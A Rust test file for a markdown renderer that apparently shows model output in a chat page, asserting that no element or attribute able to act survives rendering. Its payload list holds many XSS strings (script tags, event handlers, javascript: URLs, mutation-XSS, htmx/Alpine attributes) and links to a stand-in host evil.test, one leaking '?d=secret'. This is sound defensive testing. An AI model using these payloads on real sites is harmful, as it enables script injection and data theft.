//! What a hostile model may write: nothing of it acts in a page. The result is read again by an HTML parser and every
//! element and attribute is compared with what may be there.

use std::cell::RefCell;

use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer};

use crate::markdown::{self, Sources};

/// Payloads, one per entry; each is tried alone, in a table cell, in a list, in a quote and cut in the middle.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\" alt='<script>'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.test\">",
    "<style>*{background:url(//evil.test)}</style>",
    "<p style=\"background:url(//evil.test)\">x</p>",
    "<div style=position:fixed;inset:0>cover</div>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.test><input name=form_token><button>Go</button></form>",
    "<button formaction=//evil.test form=composer>Go</button>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select onfocus=alert(1) autofocus></select>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](http://evil.test/plain)",
    "[x](//evil.test/relative)",
    "[x](/sign-out)",
    "[x](/chats/1/trash)",
    "[x](/passages?workspace=/&path=etc/passwd&start=1&end=1)",
    "<javascript:alert(1)>",
    "<https://evil.test/\"onmouseover=alert(1)>",
    "[x](https://evil.test/\"onmouseover=\"alert(1))",
    "[x](https://evil.test/ \"title\\\" onmouseover=alert(1)\")",
    "[x](<https://evil.test/?<hx-partial hx-target=body hx-swap=outerHTML>>)",
    "[x](https://evil.test/?a=<script>alert(1)</script>)",
    "![x](https://evil.test/pixel.png)",
    "![x](https://evil.test/pixel.png?d=secret)",
    "![\" onerror=\"alert(1)](https://evil.test/p.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](/settings/theme)",
    "<div hx-get=\"/danger\" hx-trigger=\"load\">x</div>",
    "<div data-hx-post=\"/chats/1/trash\" data-hx-trigger=load>x</div>",
    "<p hx-on:load=\"alert(1)\">x</p>",
    "<div hx-sse:connect=\"/x\">x</div>",
    "<hx-partial hx-target=\"body\" hx-swap=\"outerHTML\"><p>gone</p></hx-partial>",
    "&lt;hx-partial hx-target=body&gt;x&lt;/hx-partial&gt;",
    "<template hx type=partial hx-target=body><p>gone</p></template>",
    "<div hx-swap-oob=\"true\" id=\"composer\">x</div>",
    "<div x-data x-init=\"alert(1)\">x</div>",
    "<div x-data=\"theme\" @click=\"choose\" :class=\"x\">x</div>",
    "<span x-html=\"'<img src=x onerror=alert(1)>'\">x</span>",
    "<p id=announce class=skip name=x role=alert aria-live=assertive tabindex=0>x</p>",
    "<a href=https://evil.test target=_parent ping=//evil.test download>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "</article></main><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "```x\" onmouseover=\"alert(1)\n</code><script>alert(1)</script>\n```",
    "```js hx-get=/x\n<img src=x onerror=alert(1)>\n```",
    "`<img src=x onerror=alert(1)>`",
    "[1]: javascript:alert(1)\n[1]",
    "[1](javascript:alert(1))",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<table background=//evil.test><tr><td onclick=alert(1)>x</td></tr></table>",
    "<ol start=\"1 onclick=alert(1)\"><li value=x onclick=alert(1)>x</li></ol>",
    "<font color=red face=x size=99>x</font><blink>x</blink>",
    "<dialog open>x</dialog><slot name=x></slot><portal src=//evil.test></portal>",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<img/src=x/onerror=alert(1)//",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<xss onmouseover=alert(1)>x</xss>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u{202e}<script>alert(1)</script>\u{202c}",
];

/// Elements that may be in an answer.
const ELEMENTS: [&str; 27] = [
    "a",
    "blockquote",
    "br",
    "code",
    "del",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];

#[derive(Default)]
struct Tags(RefCell<Vec<Tag>>);

impl TokenSink for Tags {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        if let Token::TagToken(tag) = token {
            self.0.borrow_mut().push(tag);
        }
        TokenSinkResult::Continue
    }
}

fn tags(html: &str) -> Vec<Tag> {
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    let tokenizer = Tokenizer::new(Tags::default(), Default::default());
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink.0.take()
}

fn sources() -> Sources {
    let mut sources = Sources::default();
    sources.insert(1, "/passages?workspace=%2Fw&path=a.rs&start=1&end=2".into(), "a\" onclick=\"x.rs:1-2".into());
    sources
}

/// Fails when `html` holds anything that could act.
fn check(html: &str, payload: &str) {
    // The page's own script finds its tags by pattern, in attributes too.
    let lower = html.to_ascii_lowercase();
    assert!(
        !lower.contains("<hx-") && !lower.contains("<head") && !lower.contains("<template"),
        "{payload}\n{html}"
    );
    for tag in tags(html) {
        let name = tag.name.to_string();
        assert!(ELEMENTS.contains(&name.as_str()), "<{name}> from {payload}\n{html}");
        if tag.kind == TagKind::EndTag {
            continue;
        }
        for attribute in &tag.attrs {
            let (key, value) = (attribute.name.local.to_string(), attribute.value.to_string());
            let is_fine = match (name.as_str(), key.as_str()) {
                ("a", "href") => {
                    value.starts_with("https://")
                        || value.starts_with("mailto:")
                        || value == "/passages?workspace=%2Fw&path=a.rs&start=1&end=2"
                }
                ("a", "class") => value == "cite",
                ("a", "rel") => value == "noopener noreferrer nofollow",
                ("a", "title") => value == "a\" onclick=\"x.rs:1-2",
                ("code", "class") => value.starts_with("language-") && !value.contains(['"', ' ', '<']),
                ("pre" | "table", "tabindex") => value == "0",
                ("ol", "start") => value.bytes().all(|byte| byte.is_ascii_digit()),
                ("td" | "th", "align") => matches!(value.as_str(), "left" | "center" | "right"),
                _ => false,
            };
            assert!(is_fine, "{key}={value:?} on <{name}> from {payload}\n{html}");
            assert!(!value.contains('<') || key == "href", "{payload}\n{html}");
        }
    }
}

#[test]
fn nothing_a_model_writes_can_act() {
    assert!(PAYLOADS.len() >= 60);
    let sources = sources();
    for payload in PAYLOADS {
        let half = payload.char_indices().nth(payload.chars().count() / 2).map_or(0, |(at, _)| at);
        let settings = [
            (*payload).to_owned(),
            format!("text [1] {payload} more [2]"),
            format!("| a | b |\n|:-:|---|\n| {payload} | [1] |"),
            format!("- one\n- {payload}\n\n> {payload}"),
            format!("**{payload}** _[1]_ {payload}{payload}"),
            payload[..half].to_owned(),
            payload[half..].to_owned(),
        ];
        for text in settings {
            check(&markdown::render(&text, &sources).to_string(), &text);
            // A page that streams shows every cut of a text; the open block must be as tame as a whole one.
            let cut = markdown::open_tail(&text);
            check(&markdown::render(&text[cut..], &sources).to_string(), &text);
        }
    }
}

#[test]
fn what_markdown_is_for_still_works() {
    let text = "# Head\n\nSee [1], [2] and `[1]`.\n\n```rust\nlet a = b[1];\n```\n\n[site](https://example.com/a?b=c) \
                ![pic](https://example.com/p.png) [leak](https://example.com/?d=0123456789012345678901234567890123456789012345678901234567890123456789)\n\n\
                | a | b |\n|:-:|--:|\n| 1 | 2 |\n\n3. three\n4. four\n";
    expect_test::expect_file!["snapshots/markdown.html"]
        .assert_eq(&markdown::render(text, &sources()).to_string());
}

#[test]
fn deep_and_long_texts_end() {
    let sources = sources();
    for text in [
        ">".repeat(50_000),
        "> ".repeat(20_000),
        "- ".repeat(20_000),
        "* a\n".repeat(20_000),
        "1. ".repeat(20_000),
        "> 1) - ".repeat(10_000),
        "-\t2.\t".repeat(10_000),
        format!("{}\n\n{}", "> ".repeat(2_000), "7) ".repeat(2_000)),
        "[".repeat(50_000),
        "![".repeat(20_000),
        "*a ".repeat(20_000),
        "**a_".repeat(20_000),
        "`".repeat(50_000),
        "<a>".repeat(20_000),
        "|a".repeat(20_000),
        format!("{}\n{}", "|a".repeat(2_000), "|-".repeat(2_000)),
        "a\n".repeat(50_000),
        (1..2_000).map(|depth| format!("{}- x\n", " ".repeat(depth))).collect::<String>(),
        "x".repeat(2_000_000),
    ] {
        let html = markdown::render(&text, &sources).to_string();
        check(&html, "a long text");
        assert!(markdown::open_tail(&text) <= text.len());
    }
}

#[test]
fn closed_blocks_and_the_open_one_make_the_whole() {
    let sources = sources();
    let text =
        "One [1].\n\nTwo\nlines.\n\n- a\n- b\n\n```rust\nfn main() {}\n\n\n// [1]\n```\n\n> quote\n\nLast é.";
    for end in (0..=text.len()).filter(|end| text.is_char_boundary(*end)) {
        let (mut closed, mut html) = (0, String::new());
        // As a stream does it: whatever is closed is rendered once and for all.
        for upto in (0..=end).filter(|upto| text.is_char_boundary(*upto)) {
            let cut = markdown::open_tail(&text[closed..upto]);
            html.push_str(&markdown::render(&text[closed..closed + cut], &sources).to_string());
            closed += cut;
        }
        html.push_str(&markdown::render(&text[closed..end], &sources).to_string());
        assert_eq!(squeeze(&html), squeeze(&markdown::render(&text[..end], &sources).to_string()), "{end}");
    }
}

fn squeeze(html: &str) -> String {
    html.split_whitespace().collect::<Vec<_>>().join(" ")
}
